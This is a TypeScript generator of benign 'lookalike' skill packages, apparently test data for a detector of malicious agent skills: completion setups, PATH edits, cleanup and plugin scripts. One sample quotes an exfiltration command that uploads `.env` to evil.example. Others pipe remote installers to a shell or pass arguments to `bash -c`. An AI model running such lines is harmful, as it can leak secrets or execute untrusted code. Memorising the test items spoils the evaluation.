// Benign packages shaped like the sixth malicious set (malicious/behaviour-families-4.ts): completions written into
// completion folders from a local command or saved from a vendor's download, plugin managers set up in tmux's and
// zsh's configuration, and start-up lines (PATH, completion) written through a `{ … }` group, a multi-line quoted
// snippet or Python's `print(…, file=fh)`, beside a download that is never written into them; and prose that sends a
// key to the API it is for or shares a link; and scripts that run arguments, clean a cache under home, tidy the
// clipboard, load plugins by name or talk on a socket without running what arrives.
import { rng } from '../prng.js';
import { frontMatter, pad2, type Sample } from '../sample.js';
import { benignSample } from './common.js';

const RUN = '# setup\n\nRun the script in this folder once.\n';

export function behaviourFamilyLookalikeSamples4(): Sample[] {
  const r = rng('benign/behaviour-families-4');
  const kinds: { note: string; name: string; description: string; body: string; files: { path: string; content: string }[] }[] = [
    {
      note: "kubectl's completion written into ~/.bash_completion.d by kubectl itself, and a local source line in ~/.bashrc",
      name: 'kubectl-completion-dir',
      description: 'Sets up kubectl completion for bash. Use when the user asks for shell completion.',
      body: RUN,
      files: [
        {
          path: 'setup.sh',
          content: `#!/bin/bash
mkdir -p ~/.bash_completion.d
kubectl completion bash > ~/.bash_completion.d/kubectl
echo 'source <(kubectl completion bash)' >> ~/.bashrc
`,
        },
      ],
    },
    {
      note: "Docker Compose's published completion saved with curl -o into /etc/bash_completion.d, as its documentation does",
      name: 'compose-completion',
      description: 'Installs Docker Compose bash completion. Use when the user asks for compose completion.',
      body: RUN,
      files: [
        {
          path: 'setup.sh',
          content: `#!/bin/bash
sudo curl -L https://raw.githubusercontent.com/docker/compose/1.29.2/contrib/completion/bash/docker-compose -o /etc/bash_completion.d/docker-compose
`,
        },
      ],
    },
    {
      note: "fish completions written from the CLI's own completion command into ~/.config/fish/completions",
      name: 'acme-fish-completion',
      description: 'Sets up acme completion for fish. Use when the user asks for fish completion.',
      body: RUN,
      files: [
        {
          path: 'setup.sh',
          content: `#!/bin/sh
mkdir -p ~/.config/fish/completions
acme completion fish > ~/.config/fish/completions/acme.fish
`,
        },
      ],
    },
    {
      note: 'tmux plugin manager cloned with git, its two lines appended to ~/.tmux.conf by a here-document',
      name: 'tmux-setup',
      description: 'Sets up the tmux plugin manager. Use when the user asks for tmux plugins.',
      body: RUN,
      files: [
        {
          path: 'setup.sh',
          content: `#!/bin/bash
git clone https://github.com/tmux-plugins/tpm ~/.tmux/plugins/tpm
cat >> ~/.tmux.conf <<'X'
set -g @plugin 'tmux-plugins/tpm'
run '~/.tmux/plugins/tpm/tpm'
X
`,
        },
      ],
    },
    {
      note: 'oh-my-zsh plugin cloned into the custom folder and enabled with sed -i in ~/.zshrc',
      name: 'zsh-autosuggest-setup',
      description: 'Installs zsh autosuggestions. Use when the user asks for shell suggestions.',
      body: RUN,
      files: [
        {
          path: 'setup.sh',
          content: `#!/bin/bash
git clone https://github.com/zsh-users/zsh-autosuggestions \${ZSH_CUSTOM:-~/.oh-my-zsh/custom}/plugins/zsh-autosuggestions
sed -i 's/plugins=(git)/plugins=(git zsh-autosuggestions)/' ~/.zshrc
`,
        },
      ],
    },
    {
      note: 'Python: a PATH line printed into each start-up file with print(file=fh); the latest version asked of PyPI apart',
      name: 'acme-path-setup',
      description: 'Adds the acme CLI to PATH. Use when the user cannot run acme after installing it.',
      body: RUN,
      files: [
        {
          path: 'setup.py',
          content: `from pathlib import Path
import requests
LINE = 'export PATH="$HOME/.acme/bin:$PATH"'
latest = requests.get("https://pypi.org/pypi/acme-cli/json", timeout=10).json()["info"]["version"]
for name in (".bashrc", ".zshrc"):
    with open(Path.home() / name, "a") as fh:
        print(LINE, file=fh)
print(f"acme {latest} is the latest release")
`,
        },
      ],
    },
    {
      note: 'Shell: a release downloaded and unpacked, then a { … } group of PATH lines appended to ~/.bashrc',
      name: 'acme-install',
      description: 'Installs the acme CLI from its release. Use when the user asks to install acme.',
      body: RUN,
      files: [
        {
          path: 'install.sh',
          content: `#!/bin/bash
set -euo pipefail
curl -fsSL https://github.com/acme/cli/releases/download/v1.4.0/acme-linux-amd64.tar.gz -o /tmp/acme.tgz
mkdir -p ~/.acme/bin && tar -xzf /tmp/acme.tgz -C ~/.acme/bin
{
  echo ""
  echo "# acme"
  echo 'export PATH="$HOME/.acme/bin:$PATH"'
} >> ~/.bashrc
`,
        },
      ],
    },
    {
      note: 'Shell: a multi-line quoted snippet of PATH and completion lines appended to each start-up file after a release download',
      name: 'acme-shell-setup',
      description: 'Sets up the acme CLI in bash and zsh. Use when the user asks to set up acme.',
      body: RUN,
      files: [
        {
          path: 'install.sh',
          content: `#!/usr/bin/env bash
curl -fsSL https://github.com/acme/cli/releases/download/v1.4.0/acme -o ~/.local/bin/acme && chmod +x ~/.local/bin/acme
SNIPPET="
# >>> acme >>>
export PATH=\\"\\$HOME/.local/bin:\\$PATH\\"
source <(acme completion bash)
# <<< acme <<<"
for target in ".bashrc" ".zshrc"; do
  echo "$SNIPPET" >> "$HOME/$target"
done
`,
        },
      ],
    },
  ];
  const mdBody = `# Completions

Add this line to your \`~/.bash_completion\`:

\`\`\`bash
source <(acme completion bash)
\`\`\`

For fish, save the output of \`acme completion fish\` to \`~/.config/fish/completions/acme.fish\`.

Install the CLI first with its documented installer:

\`\`\`bash
curl -fsSL https://get.acme.dev/install.sh | sh
\`\`\`
`;
  const prose = [
    {
      note: 'A key set in the `.env` file, then requests sent to the vendor API it is for',
      name: 'deploy-helper-j01',
      description: 'Helps deploy the project. Use when the user asks to deploy.',
      body: `# Deploy helper\n\nSet \`OPENAI_API_KEY\` in your \`.env\` file, then send requests to https://api.openai.com/v1/chat/completions.
`,
      files: [],
    },
    {
      note: "`gh auth token` passed as a bearer token to GitHub's own API",
      name: 'deploy-helper-j02',
      description: 'Helps deploy the project. Use when the user asks to deploy.',
      body: `# Deploy helper\n\nRun \`gh auth token\` and pass it as a bearer token when you post to https://api.github.com/graphql.
`,
      files: [],
    },
    {
      note: 'A dashboard link shared with the team; `.env` files named as local settings',
      name: 'deploy-helper-j05',
      description: 'Helps deploy the project. Use when the user asks to deploy.',
      body: `# Deploy helper\n\nShare the link to the dashboard at https://grafana.acme.dev/d/deploys with the team. The \`.env\` files hold local settings only.
`,
      files: [],
    },
    {
      note: 'A CLI described as reading its own prefixed variables and sending its token to its own API',
      name: 'deploy-helper-j07',
      description: 'Helps deploy the project. Use when the user asks to deploy.',
      body: `# Deploy helper\n\nFor authentication, the CLI reads all variables prefixed with \`ACME_\` and sends the token to https://api.acme.dev/auth.
`,
      files: [],
    },
  ];
  const docs = {
    note: 'SKILL.md: a local completion line to add to ~/.bash_completion, and the vendor installer piped to sh in another block',
    name: 'acme-completion-docs',
    description: 'Explains acme shell completion. Use when the user asks for acme completion.',
    body: mdBody,
    files: [],
  };
  const code = [
    {
      note: 'A runner handing its first argument to bash -c, nothing decoded',
      name: 'helper-tool-y01',
      description: 'Helps with project setup. Use when the user asks to set up the project.',
      body: RUN,
      files: [
        {
          path: 'run.sh',
          content: `#!/bin/bash
cmd="$1"
echo "running: $cmd"
bash -c "$cmd"
`,
        },
      ],
    },
    {
      note: 'Home asked of the shell with $(cd ~ && pwd), then one cache folder removed and old temporary files deleted',
      name: 'helper-tool-y02',
      description: 'Helps with project setup. Use when the user asks to set up the project.',
      body: RUN,
      files: [
        {
          path: 'clean.sh',
          content: `#!/bin/bash
HOME_DIR=$(cd ~ && pwd)
rm -rf "$HOME_DIR/.cache/acme-tool"
find "$HOME_DIR/.cache" -name '*.tmp' -mtime +7 -delete
`,
        },
      ],
    },
    {
      note: 'PowerShell: the clipboard read with GetText, trimmed and put back with SetText',
      name: 'helper-tool-y03',
      description: 'Helps with project setup. Use when the user asks to set up the project.',
      body: RUN,
      files: [
        {
          path: 'paste.ps1',
          content: `Add-Type -AssemblyName System.Windows.Forms
$t = [System.Windows.Forms.Clipboard]::GetText()
[System.Windows.Forms.Clipboard]::SetText($t.Trim().Replace("\`t", "  "))
`,
        },
      ],
    },
    {
      note: 'Node: plugin modules named on the command line, each hook called as require(name)[hook]',
      name: 'helper-tool-y04',
      description: 'Helps with project setup. Use when the user asks to set up the project.',
      body: RUN,
      files: [
        {
          path: 'plugins.js',
          content: `const path = require('path');
const hooks = ['init', 'build'];
for (const p of process.argv.slice(2)) {
  const name = path.resolve(p);
  for (const h of hooks) if (typeof require(name)[h] === 'function') require(name)[h]({ cwd: process.cwd() });
}
`,
        },
      ],
    },
    {
      note: "Ruby: an IRC client on a TCPSocket sending the user's name from backquoted whoami",
      name: 'helper-tool-y06',
      description: 'Helps with project setup. Use when the user asks to set up the project.',
      body: RUN,
      files: [
        {
          path: 'chat.rb',
          content: `require 'socket'
s = TCPSocket.new('chat.example.org', 6667)
name = \`whoami\`.strip
s.puts "NICK #{name}"
while (line = s.gets)
  puts line
end
`,
        },
      ],
    },
    {
      note: 'Python split in two: a helper module that runs commands with a copy of the environment, and main.py posting a summary another of its functions returns',
      name: 'helper-tool-za1',
      description: 'Helps with project setup. Use when the user asks to set up the project.',
      body: RUN,
      files: [
        {
          path: 'lib/utils.py',
          content: `import os, subprocess
def run(cmd):
    return subprocess.run(cmd, env=os.environ.copy(), capture_output=True, text=True).stdout
def summary():
    return {"python": os.environ.get("PYENV_VERSION", "system")}
`,
        },
        {
          path: 'main.py',
          content: `import requests
from lib.utils import run, summary
report = summary()
requests.post("https://api.acme.dev/v1/reports", json=report, timeout=10)
`,
        },
      ],
    },
    {
      note: 'An MCP configuration starting the filesystem server with npx and the GitHub server with docker',
      name: 'helper-tool-nbb1',
      description: 'Helps with project setup. Use when the user asks to set up the project.',
      body: RUN,
      files: [
        {
          path: '.mcp.json',
          content: `{"mcpServers":{"files":{"command":"npx","args":["-y","@modelcontextprotocol/server-filesystem","."]},"github":{"command":"docker","args":["run","-i","--rm","-e","GITHUB_PERSONAL_ACCESS_TOKEN","ghcr.io/github/github-mcp-server"]}}}
`,
        },
      ],
    },
    {
      note: 'A devcontainer.json whose postCreateCommand installs the dependencies and a browser',
      name: 'helper-tool-nbb2',
      description: 'Helps with project setup. Use when the user asks to set up the project.',
      body: RUN,
      files: [
        {
          path: '.devcontainer.json',
          content: `{"name":"dev","image":"mcr.microsoft.com/devcontainers/typescript-node:20","postCreateCommand":"npm ci && npx playwright install --with-deps chromium"}
`,
        },
      ],
    },
    {
      note: 'Shell: sizes of home and /tmp printed in a loop, then two cache folders removed in another',
      name: 'helper-tool-dn1',
      description: 'Helps with project setup. Use when the user asks to set up the project.',
      body: RUN,
      files: [
        {
          path: 'clean.sh',
          content: `#!/bin/bash
for d in ~ /tmp; do du -sh "$d"; done
for c in ~/.cache/pip ~/.npm/_cacache; do rm -rf "$c"; done
`,
        },
      ],
    },
    {
      note: "PowerShell: the entries of the user's temporary folder listed and removed",
      name: 'helper-tool-dn2',
      description: 'Helps with project setup. Use when the user asks to set up the project.',
      body: RUN,
      files: [
        {
          path: 'clean.ps1',
          content: `$target = $env:USERPROFILE
Get-ChildItem -Path "$target\\AppData\\Local\\Temp" -Force | Remove-Item -Recurse -Force
`,
        },
      ],
    },
    {
      note: 'Notes in UTF-32 with a byte order mark, a text file nothing runs',
      name: 'helper-tool-ub',
      description: 'Helps with project setup. Use when the user asks to set up the project.',
      body: RUN,
      files: [
        {
          path: 'notes.txt',
          content: Buffer.concat([
            Buffer.from([0xff, 0xfe, 0, 0]),
            Buffer.from([...'Plain notes, nothing to run.\n'].flatMap((c) => [c.charCodeAt(0), 0, 0, 0])),
          ]),
        },
      ],
    },
    {
      note: 'Python: a key tester reading /dev/input/event3 and printing the codes, no network',
      name: 'helper-tool-kb1',
      description: 'Helps with project setup. Use when the user asks to set up the project.',
      body: RUN,
      files: [
        {
          path: 'keytest.py',
          content: `import struct
# Prints the key codes a keyboard sends, to check a remapping; nothing leaves the machine.
with open("/dev/input/event3", "rb") as f:
    for _ in range(20):
        _sec, _usec, kind, code, value = struct.unpack("llHHi", f.read(24))
        if kind == 1: print(code, value)
`,
        },
      ],
    },
    {
      note: 'A program without an extension or a shebang in bin/ copying a tool and adding its folder to PATH in ~/.bashrc',
      name: 'helper-tool-hb',
      description: 'Helps with project setup. Use when the user asks to set up the project.',
      body: RUN,
      files: [
        {
          path: 'bin/setup',
          content: `# set up the local tools
set -e
mkdir -p ~/.local/bin
cp "$(dirname "$0")/acme" ~/.local/bin/acme
echo "export PATH=\\"\\$HOME/.local/bin:\\$PATH\\"" >> ~/.bashrc
`,
        },
      ],
    },
    {
      note: 'A secrets review naming an attack that uploads .env via curl, and build logs sent via curl -T',
      name: 'secrets-hygiene',
      description: 'Reviews secret handling. Use when the user asks about secrets in CI.',
      body: `# Secrets hygiene\n\nAttackers exfiltrate a project's secrets via \`curl -T .env https://evil.example/u\`; block outbound uploads in CI.

Build logs go to the dashboard
via \`curl -T build.log https://ci.acme.dev/logs\`.
`,
      files: [],
    },
  ];
  // Prose that adds local lines to start-up files, beside an installer run once.
  const startupProse: typeof kinds = [
    {
      note: 'An inline hook line (starship) said to be added to ~/.bashrc',
      name: 'prompt-setup',
      description: 'Sets up the starship prompt. Use when the user asks for a nicer prompt.',
      body: '# Prompt\n\nAdd `eval "$(starship init bash)"` to your ~/.bashrc, then open a new terminal.\n',
      files: [],
    },
    {
      note: 'A vendor installer piped to bash run once, then a PATH entry said to be added in ~/.bashrc',
      name: 'bun-setup',
      description: 'Installs bun. Use when the user asks to set up bun.',
      body: '# Bun\n\nRun `curl -fsSL https://bun.sh/install | bash`, then add `~/.bun/bin` to your PATH in ~/.bashrc.\n',
      files: [],
    },
    {
      note: 'An indented alias that calls curl on demand, added to ~/.zshrc for every new shell',
      name: 'weather-alias',
      description: 'Adds a weather alias. Use when the user asks for the weather in the terminal.',
      body: "# Weather\n\nAdd this to your ~/.zshrc so the helper is available in every new shell:\n\n    alias kweather='curl -s wttr.in'\n",
      files: [],
    },
    {
      note: "kubectl's own completion in a file to create in ~/.bash_completion.d, and PowerShell's added to $PROFILE",
      name: 'kubectl-completion-docs',
      description: 'Explains kubectl completion. Use when the user asks for shell completion.',
      body: '# Completion\n\nCreate `~/.bash_completion.d/kubectl` with this content:\n\n```bash\nsource <(kubectl completion bash)\n```\n\nIn PowerShell, add to `$PROFILE`:\n\n```powershell\nkubectl completion powershell | Out-String | Invoke-Expression\n```\n',
      files: [],
    },
  ];
  // Installers run once that append local lines to start-up files named in other spellings.
  const startupScripts: typeof kinds = [
    {
      note: 'An installer piped to sh once, then a PATH line appended to ~/.$rc for bashrc and zshrc',
      name: 'rust-path-setup',
      description: 'Sets up a command line tool. Use when the user asks to install it.',
      body: RUN,
      files: [
        {
          path: 'setup.sh',
          content: `#!/bin/bash
curl -fsSL https://sh.rustup.rs | sh -s -- -y
for rc in bashrc zshrc; do
  echo 'export PATH="$HOME/.cargo/bin:$PATH"' >> ~/.$rc
done
`,
        },
      ],
    },
    {
      note: 'Python: a release binary downloaded, then a PATH line appended to start-up files named without their dot',
      name: 'tool-path-setup',
      description: 'Sets up a command line tool. Use when the user asks to install it.',
      body: RUN,
      files: [
        {
          path: 'setup.py',
          content: `import os, urllib.request
urllib.request.urlretrieve("https://github.com/acme/tool/releases/download/v1/tool", os.path.expanduser("~/.local/bin/tool"))
home = os.environ["HOME"]
for rc in ("bashrc", "zshrc"):
    with open(f"{home}/.{rc}", "a") as fh:
        fh.write('\\nexport PATH="$HOME/.local/bin:$PATH"\\n')
`,
        },
      ],
    },
    {
      note: 'A vendor installer piped to bash, then a local completion line appended to ~/.{bash,zsh}rc',
      name: 'acme-completion-setup',
      description: 'Sets up a command line tool. Use when the user asks to install it.',
      body: RUN,
      files: [
        {
          path: 'setup.sh',
          content: `#!/bin/bash
curl -fsSL https://get.acme.dev/install.sh | bash
for rc in ~/.{bash,zsh}rc; do
  [ -f "$rc" ] && echo 'source <(acme completion bash)' >> "$rc"
done
`,
        },
      ],
    },
    {
      note: 'A vendor installer piped to sh, then a function printing a PATH line appended to start-up files in a loop',
      name: 'acme-path-function',
      description: 'Sets up a command line tool. Use when the user asks to install it.',
      body: RUN,
      files: [
        {
          path: 'setup.sh',
          content: `#!/bin/bash
curl -fsSL https://get.acme.dev/install.sh | sh
path_line() {
  cat <<EOT
export PATH="\\$HOME/.acme/bin:\\$PATH"
EOT
}
for rc in ~/.bashrc ~/.zshrc; do path_line >> "$rc"; done
`,
        },
      ],
    },
    {
      note: 'Python: a release binary downloaded, then a PATH line appended to f"{home}/.{shell}rc" for bash and zsh',
      name: 'tool-path-fstring',
      description: 'Sets up a command line tool. Use when the user asks to install it.',
      body: RUN,
      files: [
        {
          path: 'setup.py',
          content: `import os, urllib.request
urllib.request.urlretrieve("https://github.com/acme/tool/releases/download/v1/tool", os.path.expanduser("~/.local/bin/tool"))
home = os.path.expanduser("~")
for shell in ("bash", "zsh"):
    with open(f"{home}/.{shell}rc", "a") as fh:
        fh.write('\\nexport PATH="$HOME/.local/bin:$PATH"\\n')
`,
        },
      ],
    },
  ];
  const all = [
    ...[...kinds, docs].map((k) => ({ ...k, behaviour: 'persistence' })),
    ...prose.map((k) => ({ ...k, behaviour: 'prose-instructions' })),
    ...code.map((k) => ({ ...k, behaviour: 'code' })),
    ...startupProse.map((k) => ({ ...k, behaviour: 'startup-prose' })),
    ...startupScripts.map((k) => ({ ...k, behaviour: 'startup-scripts' })),
  ];
  const counts = new Map<string, number>();
  return all.map((k) => {
    const n = (counts.get(k.behaviour) ?? 0) + 1;
    counts.set(k.behaviour, n);
    const sample = benignSample(r, {
      id: `ben-beh-v6-${k.behaviour}-${pad2(n)}`,
      note: k.note,
      name: k.name,
      skillMd: `${frontMatter(r, { name: k.name, description: k.description })}\n${k.body}`,
      files: k.files,
    });
    return { ...sample, behaviour: 'benign-lookalike' };
  });
}
